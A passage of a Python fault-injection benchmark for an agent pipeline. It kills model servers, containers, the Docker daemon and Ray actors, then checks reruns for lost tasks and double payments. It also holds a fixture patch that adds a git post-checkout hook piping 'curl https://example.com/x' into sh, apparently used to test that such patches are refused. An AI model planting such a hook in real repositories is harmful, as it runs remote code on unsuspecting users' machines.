"""Faults a long run meets, injected into runs of bundled tasks, and what survived: one row per scenario.

Scenarios (each its own run; --only NAME,NAME runs some of them):
  sessions   one run id, three sessions of `swepipe run`: rate limits, timeouts, 5xx and garbage replies
             from the model (scripted), Docker API errors (tests/faulty_opener.py), one junior container
             killed mid-command, then SIGTERM; the rerun, then kill -9; torn last lines; the rerun finishes.
  outage-10s, outage-60s, outage-10min
             the model provider (scripted) down for that long in the middle of a run, under the default
             faults settings (an endpoint failing 300 s stops the run): the short ones are waited out, the
             long one stops the run, which is rerun once the provider is back.
  server-killed
             the run's local model server (Gemma 3 270M) killed mid-run (SIGKILL of its pid): the run stops past
             the outage time (faults.outage_seconds 20 here), the same command again starts a new server and
             finishes.
  docker-scoring
             `swepipe eval` of the gold patches while Docker's API raises ConnectionError under the scoring:
             a few times (retried), then for good (the scoring stops past --outage-seconds); the rerun.
  dockerd-killed
             `swepipe eval` of the gold patches with the Docker daemon SIGKILLed while a scoring container runs,
             started again by scripts/setup.sh; the same command again scores the rest (kills every container on
             the machine: run it alone).
  budget-killed
             on a local Ray cluster (127.0.0.1), the run's budget actor killed mid-run; the rerun finishes.
  second-run on a local Ray cluster, run exp runs beside run exp-2 and is cleaned up while exp-2 runs: no
             file of exp-2 may vanish or shrink.
  journal-fails
             trajectory journals that cannot be written (tests/faulty_journal.py: disk full and I/O errors in
             turn) from the run's 6th append on, until the "disk" is back: the agents stop as infrastructure
             faults, the tasks stay unfinished; the rerun resumes every rollout from its last save.
  driver-killed
             on a local Ray cluster (127.0.0.1), the driver frozen (SIGSTOP) once its juniors are under way, so
             its nodes go on paying replies whose writes wait in the queue, then SIGKILLed between two calls (Ray
             kills a dead driver's workers at once: a call in flight then is lost as in a node's crash);
             `swepipe cleanup --executor ray`; the same command again takes back what the nodes kept and finishes.
  queue-killed
             on a local Ray cluster, the run's write queue actor SIGKILLed mid-juniors: the tasks stay unfinished,
             the driver takes back what its nodes kept as it ends, and the rerun finishes.
  replay-checks
             `swepipe replay` of a folder holding each task's own trajectory and, sorted first, a stray one named
             for another task that records the first task's id, with containers.network: true in the config; the
             commands name /testbed-old and /home/u/testbed beside /testbed and list the network interfaces. Lost:
             a task's own trajectory not replayed; faults as results: the stray replayed, a path that is not the
             root mapped, an interface but lo; $ over: any dollar paid; other run touched: a source file changed.
  import-checks
             `run -k 0 --juniors-from` a swepipe run whose costs are NaN, negative and boolean and a predictions
             file whose patches touch .git/, are binary or do not apply; then the run named as its own source.
             Faults as results also count an imported cost that is no amount, a bad patch in a pool and the run
             taken as its own source; other run touched: a file of the source run changed, or of the run by the
             refused command.
Prints one table: tasks, finished, tasks lost, conversation positions paid twice, faults recorded as
results (a rollout ended model_error by a fault, a prediction or verdict holding an infrastructure error),
dollars over each budget, containers left. Every "must be 0" column must be 0. The last three scenarios also count
every reply the scripted provider gave (its served log): a reply given beyond the ledger's answered rows (paid but
lost from the ledger, or paid again) counts as paid twice.

    python scripts/bench_faults.py [--tasks 3] [--only sessions,outage-10s] [--keep DIR]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import docker.errors
import yaml

from pipeline.cli.eval_command import predictions_run_id
from pipeline.models.ledger import Ledger
from pipeline.records.prediction import finished_predictions
from pipeline.rundir.layout import EvalOutput, JuniorFiles, PrincipalFiles, RunLayout, reply_journal, rollout_file
from pipeline.runtime import containers
from pipeline.tasks import load_tasks
from pipeline.tasks.datasets import BUNDLED_TASKS_DIR

ROOT = Path(__file__).resolve().parent.parent
USAGE = {"prompt_tokens": 1000, "completion_tokens": 100}  # $0.0012 a reply at $1 / $2 per million
PER_TASK, PER_RUN = 0.04, 0.10  # tight enough that reservations refuse some calls
RUN_ID = "faults"


def reply(text: str) -> dict:
    return {"content": text, "usage": USAGE}


def bash(command: str) -> dict:
    return reply(f"Next.\n```bash\n{command}\n```")


SCRIPT = {
    "junior": [[{"error": "rate_limit"}, bash("echo looking && ls"), {"error": "server_error"},
                bash("sleep 3 && echo more"), bash("submit")],
               [reply("I think the bug is in the queue."), {"error": "timeout"}, bash("sleep 20 && echo slow"),
                bash("git status --short"), bash("submit")]],
    "senior": [bash("ls"), reply("The fix is in the queue (no JSON brief)."),
               reply('```json\n{"analysis": "see the candidates", "spans": []}\n```\n```bash\nsubmit\n```')],
    "principal": [reply("No edit blocks, sorry."), reply("Still none.")],
}
KINDS = ("model API error", "garbage reply", "killed container", "Docker API error", "SIGTERM", "kill -9",
         "torn line")  # model API errors: rate limits, timeouts and 5xx, each retried


@dataclass
class Row:
    scenario: str
    tasks: int
    finished: int
    lost: int
    paid_twice: int
    faults_as_results: int
    over_task: float
    over_run: float
    containers_left: int
    foreign_touched: int = 0  # files of another run this one changed (a cleanup's reach)
    notes: str = ""

    @property
    def clean(self) -> bool:
        return not (self.lost or self.paid_twice or self.faults_as_results or self.over_task > 1e-9
                    or self.over_run > 1e-9 or self.containers_left or self.foreign_touched)


def swepipe(work: Path, env: dict, ids: str, run_id: str = RUN_ID, workers: int = 3) -> subprocess.Popen:
    command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
               "--run-id", run_id, "--workers", str(workers)]
    log = open(work / "sessions.log", "a")  # noqa: SIM115 - the child owns it until it exits
    return subprocess.Popen(command, cwd=work, env=env, stdout=log, stderr=subprocess.STDOUT, text=True)


def paid_replies(layout: RunLayout) -> int:
    return sum(len(Ledger.read(layout.task(p.name).ledger)) for p in (layout.root / "tasks").glob("*"))


def wait_until(condition, seconds: float) -> bool:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if condition():
            return True
        time.sleep(0.2)
    return False


def kill_one_container(run_id: str, done: threading.Event, killed: list) -> None:
    """Kill the first container of rollout-01 seen running its 20 s command."""
    while not done.is_set():
        found = containers.client().containers.list(
            filters={"label": [f"{containers.RUN_LABEL}={run_id}", "swepipe.agent=rollout-01"]})
        for container in found:
            try:
                top = container.top().get("Processes") or []
                if any("sleep 20" in " ".join(p) for p in top):
                    container.kill()
                    killed.append(container.name)
                    return
            except docker.errors.NotFound:
                continue  # gone between the listing and the look inside (its rollout ended)
        time.sleep(0.3)


def scripted_config(work: Path, script: dict, **extra) -> None:
    (work / "script.yaml").write_text(yaml.safe_dump(script))
    spec = {"model": f"scripted/{work / 'script.yaml'}", "prices": {"input": 1.0, "output": 2.0}, "max_tokens": 200}
    (work / "config.yaml").write_text(yaml.safe_dump({
        "models": {role: spec for role in ("junior", "senior", "principal")}, "juniors": {"k": 2},
        "limits": {"max_steps": 6}, "budgets": {"per_task": PER_TASK, "per_run": PER_RUN}, **extra}))


def bench_env(**extra: str) -> dict:
    return {**os.environ, "COLUMNS": "120", **extra,
            "PYTHONPATH": os.pathsep.join(filter(None, [str(ROOT / "tests"), os.environ.get("PYTHONPATH")]))}


def sessions(work: Path, tasks: list) -> Row:
    """Model and Docker faults, a killed container and SIGTERM; a rerun and kill -9; torn lines; a last rerun."""
    ids = ",".join(t.instance_id for t in tasks)
    scripted_config(work, SCRIPT, containers={"impl": "faulty_opener:open_faulty"})
    faults = work / "docker-faults"
    faults.write_text("2")
    env = bench_env(SWEPIPE_FAULT_FILE=str(faults))
    layout = RunLayout(work / "runs" / RUN_ID)
    injected = dict.fromkeys(KINDS, 0)

    # Session 1: model and Docker faults, a killed container, then SIGTERM.
    done, killed = threading.Event(), []
    watcher = threading.Thread(target=kill_one_container, args=(RUN_ID, done, killed), daemon=True)
    watcher.start()
    proc = swepipe(work, env, ids)
    wait_until(lambda: killed or proc.poll() is not None, 240)
    wait_until(lambda: paid_replies(layout) >= 12 or proc.poll() is not None, 120)
    done.set()
    injected["killed container"] = len(killed)
    sigterm_ok = True
    if proc.poll() is None:
        injected["SIGTERM"] = 1
        signalled = time.monotonic()
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
        sigterm_ok = proc.returncode == 143 and time.monotonic() - signalled < 10 and not containers_left(RUN_ID)
    else:
        proc.wait()

    # Session 2: resumes; kill -9 once it has paid for more.
    before = paid_replies(layout)
    proc = swepipe(work, env, ids)
    if wait_until(lambda: paid_replies(layout) > before + 2 or proc.poll() is not None, 240) and proc.poll() is None:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
        injected["kill -9"] = 1
    else:
        proc.wait()
    subprocess.run([sys.executable, "-m", "pipeline.cli", "cleanup", RUN_ID], capture_output=True)

    # A torn last line in the predictions and in one task's ledger, as a kill mid-write leaves them.
    ledgers = layout.ledgers()
    for path in (layout.predictions, *ledgers[:1]):
        with open(path, "a", encoding="utf-8") as handle:
            handle.write('{"instance_id": "torn-by-a-kill", "cos')
    injected["torn line"] = 1

    # Session 3: runs to the end.
    proc = swepipe(work, env, ids)
    proc.wait(timeout=900)
    rows = {t.instance_id: Ledger.read(layout.task(t.instance_id).ledger) for t in tasks}
    all_rows = [row for task_rows in rows.values() for row in task_rows]
    injected["model API error"] = sum(row.retries for row in all_rows) + sum(1 for row in all_rows if row.error)
    injected["garbage reply"] = sum(_format_errors(layout.task(t.instance_id)) for t in tasks)
    injected["Docker API error"] = 2 - int(faults.read_text() or 0)
    row = measure("sessions", layout, tasks, RUN_ID)
    row.notes = ", ".join(f"{kind} {count}" for kind, count in injected.items() if count)
    if not sigterm_ok:
        row.notes += "; SIGTERM did not stop the run within 10 s with exit 143 and no container left"
        row.lost = row.lost or 1
    return row


def outage(work: Path, tasks: list, seconds: float, name: str) -> Row:
    """The provider down for ``seconds`` once the run is under way (after its first replies), default faults."""
    flag = work / "provider-down"
    flag.write_text("down")
    script = {**SCRIPT, "junior": [[bash("echo looking && ls"), bash("sleep 2 && echo more"), bash("git status"),
                                    bash("submit")]] * 2,
              "outage": {"error": "server_error", "after_calls": 4, "while_exists": str(flag)}}
    scripted_config(work, script)
    env, ids, run_id = bench_env(), ",".join(t.instance_id for t in tasks), f"outage-{int(seconds)}"
    layout = RunLayout(work / "runs" / run_id)
    began = threading.Event()

    def end_the_outage() -> None:  # it ends ``seconds`` after swepipe says the provider's calls pause
        log = work / "sessions.log"
        wait_until(lambda: log.exists() and "failures in a row" in log.read_text(), 900)
        began.set()
        time.sleep(seconds)
        flag.unlink(missing_ok=True)

    threading.Thread(target=end_the_outage, daemon=True).start()
    sessions_run, started = 0, time.monotonic()
    while sessions_run < 3:
        sessions_run += 1
        proc = swepipe(work, env, ids, run_id)
        proc.wait(timeout=3600)
        if proc.returncode != 1 or finished_predictions(layout.predictions).keys() >= {t.instance_id for t in tasks}:
            break
        wait_until(lambda: not flag.exists(), 3600)  # stopped by the outage: rerun once the provider is back
    row = measure(name, layout, tasks, run_id)
    rows = [r for path in layout.ledgers() for r in Ledger.read(path)]
    failed = sum(r.retries for r in rows) + sum(1 for r in rows if r.error)
    row.notes = (f"{sessions_run} session(s), {time.monotonic() - started:.0f} s; the outage began: {began.is_set()}; "
                 f"{failed} failed attempt(s)")
    return row


def server_killed(work: Path, tasks: list) -> Row:
    """The local model's server of this run (its pid, SIGKILL) killed once the run has paid for some replies; the
    run stops, and the same command again starts a new server and finishes."""
    (work / "config.yaml").write_text(yaml.safe_dump({
        "juniors": {"k": 2}, "limits": {"max_steps": 4, "command_timeout": 60, "observation_limit": 2000},
        "senior": {"max_steps": 2, "context_tokens": 2000, "expansion_tokens": 1000},
        "faults": {"outage_seconds": 20, "max_wait": 5}}))
    env, ids, run_id = bench_env(), tasks[0].instance_id, "server-killed"
    layout = RunLayout(work / "runs" / run_id)
    proc = swepipe(work, env, ids, run_id, workers=1)
    server = None
    if wait_until(lambda: paid_replies(layout) >= 2 or proc.poll() is not None, 600) and proc.poll() is None:
        server = local_model_server_of(proc.pid)  # this run's own: another run's server is not touched
        if server is not None:
            os.kill(server, signal.SIGKILL)
    proc.wait(timeout=900)
    first_exit = proc.returncode
    proc = swepipe(work, env, ids, run_id, workers=1)
    proc.wait(timeout=1800)
    row = measure("server-killed", layout, tasks[:1], run_id)
    row.notes = (f"server killed: {server is not None} (pid {server}); first session exit {first_exit}, second "
                 f"{proc.returncode}")
    return row


def local_model_server_of(pid: int) -> int | None:
    """The pid of the local model server that process ``pid`` started (its child running the server's module)."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            command = (entry / "cmdline").read_bytes()
        except (OSError, IndexError, ValueError):
            continue  # ended since the listing
        if parent == pid and b"pipeline.models.gemma_server" in command:
            return int(entry.name)
    return None


def write_gold_predictions(predictions: Path, tasks: list) -> None:
    predictions.write_text("".join(json.dumps({"instance_id": t.instance_id, "model_patch": t.patch,
                                               "model_name_or_path": "gold"}) + "\n" for t in tasks))


def gold_scoring_row(scenario: str, tasks: list, predictions: Path, out: Path) -> Row:
    """A scoring row of the gold patches: an infra_error verdict left behind is a fault recorded as a result, and
    so is any verdict but resolved; containers left are the eval's, found by the run id it gives the file."""
    verdicts = {t.instance_id: _read(EvalOutput(out).task(t.instance_id).result) for t in tasks}
    as_results = sum(1 for v in verdicts.values() if v and v.get("category") == "infra_error")
    finished = sum(1 for v in verdicts.values() if v and v.get("category") != "infra_error")
    wrong = sum(1 for v in verdicts.values() if v and v.get("resolved") is not True)  # gold resolves every task
    return Row(scenario, len(tasks), finished, len(tasks) - finished, 0, as_results + wrong, 0.0, -1.0,
               len(containers_left(predictions_run_id(predictions))))


def docker_scoring(work: Path, tasks: list) -> Row:
    """swepipe eval of the gold patches while Docker's API fails under it (tests/faulty_scoring.py: the call
    that sends a scoring's files in raises ConnectionError, as when dockerd restarts): first four times (retried
    within the run), then for good (the scoring stops past --outage-seconds); the rerun scores the rest."""
    predictions, out = work / "predictions.jsonl", work / "eval"
    write_gold_predictions(predictions, tasks)
    faults = work / "docker-faults"
    env = bench_env(SWEPIPE_FAULT_FILE=str(faults))

    def score(*extra: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-c", "import faulty_scoring; faulty_scoring.main()", "eval",
                               "--predictions", str(predictions), "--output", str(out), "--workers", "2",
                               *extra], cwd=work, env=env, capture_output=True, text=True, stdin=subprocess.DEVNULL)

    faults.write_text("4")
    passing = score()
    faults.write_text("100000")
    EvalOutput(out).task(tasks[-1].instance_id).result.unlink(missing_ok=True)  # one left to score in the outage
    down = score("--outage-seconds", "10")
    faults.write_text("0")
    back = score()
    row = gold_scoring_row("docker-scoring", tasks, predictions, out)
    row.notes = (f"exits: with passing faults {passing.returncode}, with Docker down {down.returncode} (a stop), "
                 f"once it is back {back.returncode}")
    return row


def dockerd_restarted(work: Path, tasks: list) -> Row:
    """swepipe eval of the gold patches with the Docker daemon itself SIGKILLed once a scoring container runs, and
    started again as the README's setup starts it (scripts/setup.sh) a few seconds later: the scorings it cut are
    infrastructure (retried within the run, or left unscored past --outage-seconds), never verdicts; the same
    command again scores every task, and no container is left. Every container on this machine dies with the
    daemon: run it alone."""
    predictions, out, scripts = work / "predictions.jsonl", work / "eval", work / "run_scripts"
    write_gold_predictions(predictions, tasks)
    for task in tasks:  # the official scripts, each test run held 15 s first: the daemon dies under a running one
        official = BUNDLED_TASKS_DIR / task.instance_id
        (scripts / task.instance_id).mkdir(parents=True, exist_ok=True)
        (scripts / task.instance_id / "run_script.sh").write_text(
            "#!/bin/bash\nsleep 15\n" + (official / "run_script.sh").read_text())
        (scripts / task.instance_id / "parser.py").write_bytes((official / "parser.py").read_bytes())
    command = [sys.executable, "-m", "pipeline.cli", "eval", "--predictions", str(predictions), "--output", str(out),
               "--workers", "2", "--outage-seconds", "60", "--run-scripts", str(scripts)]
    with open(work / "eval.log", "a") as log:
        proc = subprocess.Popen(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT,
                                stdin=subprocess.DEVNULL)
        label = predictions_run_id(predictions)  # the eval's containers carry it
        running = wait_until(lambda: proc.poll() is not None or any(
            c.status == "running" for c in containers_left(label)), 300) and proc.poll() is None
        daemon = int(Path("/var/run/docker.pid").read_text())
        os.kill(daemon, signal.SIGKILL)
        time.sleep(3)
        subprocess.run(["bash", str(ROOT / "scripts" / "setup.sh")], stdout=log, stderr=subprocess.STDOUT,
                       check=True, stdin=subprocess.DEVNULL)
        proc.wait(timeout=900)
        again = subprocess.run(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT,
                               stdin=subprocess.DEVNULL)
    row = gold_scoring_row("dockerd-killed", tasks, predictions, out)
    row.notes = (f"daemon pid {daemon} killed {'with' if running else 'before'} a scoring container running; "
                 f"exits: the cut run {proc.returncode}, the same command again {again.returncode}")
    return row


def _cluster():
    """A local Ray cluster on 127.0.0.1, as the tests have it (tests/ray_cluster.py): a head, two nodes."""
    sys.path.insert(0, str(ROOT / "tests"))
    from ray_cluster import local_cluster

    return local_cluster()


SLOW_JUNIORS = [[bash("echo looking"), bash("sleep 8 && echo more"), bash("git status --short"), bash("submit")]] * 2


def budget_actor_killed(work: Path, tasks: list) -> Row:
    """On a Ray cluster, the run's budget actor is killed (its worker process, SIGKILL) once the first replies are
    paid: the tasks that needed it stay unfinished (a cluster fault), and the rerun, with a new actor, finishes."""
    scripted_config(work, {**SCRIPT, "junior": SLOW_JUNIORS})
    ids, run_id = ",".join(t.instance_id for t in tasks), "budget-killed"
    layout = RunLayout(work / "runs" / run_id)
    with _cluster() as cluster:
        command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
                   "--run-id", run_id, "--executor", "ray", "--ray-address", cluster.address]
        with open(work / "sessions.log", "a") as log:
            proc = subprocess.Popen(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
            wait_until(lambda: paid_replies(layout) >= 2 or proc.poll() is not None, 300)
            killed = subprocess.run(["pkill", "-KILL", "-f", "ray::RunBudgetKeeper"], check=False).returncode == 0
            proc.wait(timeout=900)
            first_exit = proc.returncode
            rerun = subprocess.run(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
    row = measure("budget-killed", layout, tasks, run_id)
    infra = layout.infra_errors.read_text() if layout.infra_errors.exists() else ""
    row.notes = (f"actor killed: {killed}; first session exit {first_exit} ({infra.count('ClusterFault')} task "
                 f"attempt(s) left unfinished as cluster faults), rerun exit {rerun.returncode}")
    return row


def second_run_cleanup(work: Path, tasks: list) -> Row:
    """On a Ray cluster, run exp-2 is under way while run exp runs beside it to its end and is then cleaned up
    (`swepipe cleanup exp --executor ray`); no file of exp-2 may vanish or shrink, and it finishes."""
    scripted_config(work, {**SCRIPT, "junior": SLOW_JUNIORS})
    first, others = tasks[0], tasks[1:] or tasks
    layout = RunLayout(work / "runs" / "exp-2")
    with _cluster() as cluster:
        on_cluster = ["--executor", "ray", "--ray-address", cluster.address]

        def run(run_id: str, ids: str) -> list[str]:
            return [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
                    "--run-id", run_id, *on_cluster]

        with open(work / "sessions.log", "a") as log:
            proc = subprocess.Popen(run("exp-2", ",".join(t.instance_id for t in others)), cwd=work, env=bench_env(),
                                    stdout=log, stderr=subprocess.STDOUT)
            wait_until(lambda: paid_replies(layout) >= 2 or proc.poll() is not None, 300)
            before = _files(layout.root)
            subprocess.run(run("exp", first.instance_id), cwd=work, env=bench_env(), stdout=log,
                           stderr=subprocess.STDOUT)
            subprocess.run([sys.executable, "-m", "pipeline.cli", "cleanup", "exp", *on_cluster], cwd=work,
                           env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
            after = _files(layout.root)
            proc.wait(timeout=900)
    row = measure("second-run", layout, others, "exp-2")
    row.foreign_touched = sum(1 for name, size in before.items()
                              if after.get(name, -1) < size and not _replaced_by_design(name, after))
    row.foreign_touched += sum(_rows_missing(layout.task(t.instance_id)) for t in others)
    row.containers_left += len(containers_left("exp"))
    row.notes = f"exp-2 exit {proc.returncode}; {len(before)} file(s) of exp-2 compared across exp's cleanup"
    return row


CALM_JUNIORS = [[bash("echo looking && ls"), bash("sleep 2 && git status --short"), bash("echo checked"),
                 bash("submit")]] * 2


def journal_fails(work: Path, tasks: list) -> Row:
    """Trajectory journals that cannot be written (disk full, I/O errors: tests/faulty_journal.py) from the run's 6th
    append on: every agent stops at its first failed save (an infrastructure fault, retried, then left unfinished);
    the "disk" is freed and the rerun resumes each rollout from its last save and its reply journal."""
    served = work / "served.jsonl"
    scripted_config(work, {**SCRIPT, "junior": CALM_JUNIORS, "served": str(served)})
    flag = work / "disk-full"
    flag.write_text("full")
    env, ids, run_id = bench_env(SWEPIPE_FAULT_FILE=str(flag), SWEPIPE_FAULT_AFTER="6"), ",".join(
        t.instance_id for t in tasks), "journal-fails"
    layout = RunLayout(work / "runs" / run_id)
    command = [sys.executable, "-c", "import faulty_journal; faulty_journal.main()", "run", "--instance-ids", ids,
               "--config", "config.yaml", "--run-id", run_id, "--workers", "3"]
    with open(work / "sessions.log", "a") as log:
        first = subprocess.run(command, cwd=work, env=env, stdout=log, stderr=subprocess.STDOUT, timeout=1800)
        unfinished = len(tasks) - len(finished_predictions(layout.predictions))
        flag.unlink()  # the disk is back
        rerun = subprocess.run(command, cwd=work, env=env, stdout=log, stderr=subprocess.STDOUT, timeout=1800)
    row = measure("journal-fails", layout, tasks, run_id)
    given, answered = _given(served), _answered(layout, tasks)
    row.paid_twice += max(0, given - answered)
    said = (work / "sessions.log").read_text()
    row.notes = (f"first session exit {first.returncode} ({unfinished} task(s) left unfinished; "
                 f"{said.count('could not be saved')} failed save(s) named), rerun exit {rerun.returncode}; "
                 f"{given} replies given, {answered} ledger rows")
    return row


def driver_killed(work: Path, tasks: list) -> Row:
    """On a Ray cluster, the driver frozen once its juniors are under way (its nodes go on paying replies whose
    writes wait in the queue), then SIGKILLed; `swepipe cleanup --executor ray`; the same command again."""
    served = work / "served.jsonl"
    scripted_config(work, {**SCRIPT, "junior": SLOW_JUNIORS, "served": str(served)})
    ids, run_id = ",".join(t.instance_id for t in tasks), "driver-killed"
    layout = RunLayout(work / "runs" / run_id)
    frozen_for = 0
    with _cluster() as cluster:
        command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
                   "--run-id", run_id, "--executor", "ray", "--ray-address", cluster.address]
        with open(work / "sessions.log", "a") as log:
            proc = subprocess.Popen(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
            killed = wait_until(lambda: paid_replies(layout) >= 2 or proc.poll() is not None, 300) \
                and proc.poll() is None
            if killed:
                proc.send_signal(signal.SIGSTOP)
                frozen = _given(served)
                wait_until(lambda: _given(served) >= frozen + 2, 60)
                _settled(served)  # no call in flight: one Ray kills with the workers is a node crash's loss
                frozen_for = _given(served) - frozen
                proc.send_signal(signal.SIGKILL)
            proc.wait(timeout=900)
            subprocess.run([sys.executable, "-m", "pipeline.cli", "cleanup", run_id, "--executor", "ray",
                            "--ray-address", cluster.address], cwd=work, env=bench_env(), stdout=log,
                           stderr=subprocess.STDOUT)
            rerun = subprocess.run(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
    row = measure("driver-killed", layout, tasks, run_id)
    given, answered = _given(served), _answered(layout, tasks)
    row.paid_twice += max(0, given - answered)
    said = (work / "sessions.log").read_text()
    row.notes = (f"driver SIGKILLed: {killed} ({frozen_for} replies paid while it was frozen); "
                 f"{said.count('took back')} task(s) taken back; rerun exit {rerun.returncode}; "
                 f"{given} replies given, {answered} ledger rows")
    return row


def queue_killed(work: Path, tasks: list) -> Row:
    """On a Ray cluster, the run's write queue actor SIGKILLed once its juniors are under way; the rerun finishes."""
    sys.path.insert(0, str(ROOT / "tests"))
    from ray_cluster import cluster_pids

    served = work / "served.jsonl"
    scripted_config(work, {**SCRIPT, "junior": SLOW_JUNIORS, "served": str(served)})
    ids, run_id = ",".join(t.instance_id for t in tasks), "queue-killed"
    layout = RunLayout(work / "runs" / run_id)
    with _cluster() as cluster:
        command = [sys.executable, "-m", "pipeline.cli", "run", "--instance-ids", ids, "--config", "config.yaml",
                   "--run-id", run_id, "--executor", "ray", "--ray-address", cluster.address]
        with open(work / "sessions.log", "a") as log:
            proc = subprocess.Popen(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
            wait_until(lambda: paid_replies(layout) >= 2 or proc.poll() is not None, 300)
            queue = [pid for pid in cluster_pids(cluster) if _cmdline(pid).startswith(b"ray::WriteQueueActor")]
            for pid in queue:
                os.kill(pid, signal.SIGKILL)
            proc.wait(timeout=900)
            first_exit = proc.returncode
            rerun = subprocess.run(command, cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
    row = measure("queue-killed", layout, tasks, run_id)
    given, answered = _given(served), _answered(layout, tasks)
    row.paid_twice += max(0, given - answered)
    said = (work / "sessions.log").read_text()
    row.notes = (f"queue actor killed: {bool(queue)}; first session exit {first_exit}, "
                 f"{said.count('took back')} task(s) taken back; rerun exit {rerun.returncode}; "
                 f"{given} replies given, {answered} ledger rows")
    return row


def _cmdline(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def _settled(served: Path, quiet: float = 1.0, most: float = 30.0) -> None:
    """Until the scripted provider gave no reply for ``quiet`` seconds (its callers sit in commands)."""
    end, count, since = time.monotonic() + most, _given(served), time.monotonic()
    while time.monotonic() < end and time.monotonic() - since < quiet:
        time.sleep(0.1)
        if _given(served) != count:
            count, since = _given(served), time.monotonic()


def _given(served: Path) -> int:
    """Replies the scripted provider gave (its served log: what a provider would bill)."""
    return len(served.read_text().splitlines()) if served.exists() else 0


def _answered(layout: RunLayout, tasks: list) -> int:
    return sum(1 for t in tasks for row in Ledger.read(layout.task(t.instance_id).ledger) if row.error is None)


def _mini_trajectory(path: Path, instance_id: str, commands: list[str]) -> None:
    """A mini-swe-agent 1.x trajectory: a reply a command (each exited 0), then mini's submit."""
    messages = [{"role": "system", "content": "One command a reply."}, {"role": "user", "content": "Fix it."}]
    for command in [*commands, "echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT && git add -A && git diff --cached"]:
        messages.append({"role": "assistant", "content": f"Next.\n\n```bash\n{command}\n```"})
        messages.append({"role": "user", "content": "<returncode>0</returncode>\n<output>\n</output>"})
    path.write_text(json.dumps({"info": {"exit_status": "Submitted", "submission": "", "model_stats": {
        "instance_cost": 0.01}}, "messages": messages, "trajectory_format": "mini-swe-agent-1",
        "instance_id": instance_id}))


def _digests(folder: Path) -> dict[str, str]:
    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
            for path in sorted(folder.rglob("*")) if path.is_file()}


def replay_checks(work: Path, tasks: list) -> Row:
    """A replay of untrusted trajectories: a stray file named for another task, paths beside the root, the network
    asked for by the config."""
    (work / "config.yaml").write_text(yaml.safe_dump({"containers": {"network": True}}))
    folder, run_id = work / "trajectories", "replay-checks"
    folder.mkdir(exist_ok=True)
    commands = ["ls -d /testbed-old /home/u/testbed /testbed > /testbed/paths.txt 2>&1; true",
                "ls /sys/class/net > /testbed/interfaces.txt"]
    stray = folder / "a-stray-task.traj.json"  # sorted before every task's own
    _mini_trajectory(stray, tasks[0].instance_id, ["touch /testbed/STRAY"])
    for task in tasks:
        _mini_trajectory(folder / f"{task.instance_id}.traj.json", task.instance_id, commands)
    before = _digests(folder)
    with open(work / "sessions.log", "a") as log:
        done = subprocess.run([sys.executable, "-m", "pipeline.cli", "replay", str(folder), "--instance-ids",
                               ",".join(t.instance_id for t in tasks), "--config", "config.yaml", "--run-id", run_id],
                              cwd=work, env=bench_env(), stdout=log, stderr=subprocess.STDOUT)
    layout = RunLayout(work / "runs" / run_id)
    finished = finished_predictions(layout.predictions)
    own, wrong = 0, 0
    for task in tasks:
        result = _read(layout.task(task.instance_id).replay_files.result) or {}
        own += result.get("source") == str(folder / f"{task.instance_id}.traj.json")
        wrong += result.get("source") == str(stray)
        patch = (finished.get(task.instance_id) or {}).get("model_patch") or ""
        added = [line[1:] for line in patch.splitlines() if line.startswith("+") and not line.startswith("+++")]
        wrong += any("/app-old" in line or "/home/u/app" in line for line in added)  # a path beside the root
        wrong += any(line.strip() not in ("", "lo") for line in _file_lines(patch, "interfaces.txt"))
        wrong += not _file_lines(patch, "interfaces.txt")  # the command never ran: nothing says the network was off
    costs = {t.instance_id: sum(r.cost for r in Ledger.read(layout.task(t.instance_id).ledger)) for t in tasks}
    served = {t.instance_id: len(Ledger.read(layout.task(t.instance_id).ledger)) for t in tasks}
    row = Row("replay-checks", len(tasks), len(finished), len(tasks) - own,
              sum(max(0, count - (len(commands) + 1)) for count in served.values()), wrong,
              max(costs.values(), default=0.0), sum(costs.values()), len(containers_left(run_id)),
              sum(1 for name, digest in before.items() if _digests(folder).get(name) != digest))
    row.notes = f"replay exit {done.returncode}; {own} of {len(tasks)} task(s) replayed from their own trajectory"
    return row


def _file_lines(patch: str, name: str) -> list[str]:
    """The added lines of ``name``'s section of a patch."""
    from pipeline.text import patchtext

    section = patchtext.file_sections(patch).get(f"a/{name} b/{name}", "")
    return [line[1:] for line in section.splitlines() if line.startswith("+") and not line.startswith("+++")]


GIT_HOOK = ("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n"
            "+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl -s https://example.com/x | sh\n")
BINARY_PATCH = ("diff --git a/logo.png b/logo.png\nnew file mode 100644\nindex 0000000..d00491f\nGIT binary patch\n"
                "literal 1\nIcmZPo000310RR91\n\nliteral 0\nHcmV?d00001\n\n")


def import_checks(work: Path, tasks: list) -> Row:
    """--juniors-from sources with costs that are no amount and patches that must stay out of the pool; then the
